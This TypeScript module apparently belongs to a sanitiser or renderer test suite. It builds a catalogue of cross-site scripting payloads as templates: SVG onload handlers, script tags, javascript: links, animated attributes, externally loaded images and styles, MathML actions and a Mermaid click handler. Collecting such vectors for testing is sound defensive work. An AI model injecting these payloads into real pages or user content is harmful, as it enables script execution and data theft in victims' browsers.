import type { AttackKind } from '../bait.ts';

/** SVG and MathML, which have scripts, links and fetches of their own kinds. */
export const vectors: AttackKind = ({ url, script }) => ({
	'SVG that loads': `<svg onload=${script}></svg>`,
	'SVG with a script': `<svg><script>${script}</script></svg>`,
	'SVG with a script from elsewhere': `<svg><script href="${url}"></script></svg>`,
	'SVG with a script in CDATA': `<svg><script><![CDATA[${script}]]></script></svg>`,
	'SVG with a link': `<svg><a href="javascript:${script}"><text y=20>x</text></a></svg>`,
	'SVG with an old link': `<svg><a xlink:href="javascript:${script}"><circle r=400 /></a></svg>`,
	'SVG that uses another': `<svg><use href="${url}#x"></use></svg>`,
	'SVG with an image': `<svg><image href="${url}" /></svg>`,
	'SVG with a filter': `<svg><filter><feImage href="${url}" /></filter></svg>`,
	'SVG that sets an attribute': `<svg><a><set attributeName=href to="javascript:${script}" /></a></svg>`,
	'SVG that animates an attribute': `<svg><animate onbegin=${script} attributeName=x dur=1s /></svg>`,
	'SVG with foreign content': `<svg><foreignObject><iframe src="${url}" /></foreignObject></svg>`,
	'SVG with a style': `<svg><style>@import "${url}";*{fill:url(${url})}</style></svg>`,
	'SVG in a fence': `\`\`\`svg\n<svg onload=${script}><image href="${url}"/></svg>\n\`\`\``,
	'MathML with a link': `<math href="javascript:${script}">x</math>`,
	'MathML with an action': `<math><maction actiontype="statusline#${url}" xlink:href="javascript:${script}">x</maction></math>`,
	'MathML with foreign content': `<math><annotation-xml encoding="text/html"><img src="${url}"></annotation-xml></math>`,
	'a diagram with a link': `\`\`\`mermaid\ngraph TD; A-->B; click A "javascript:${script}"\n\`\`\``,
});
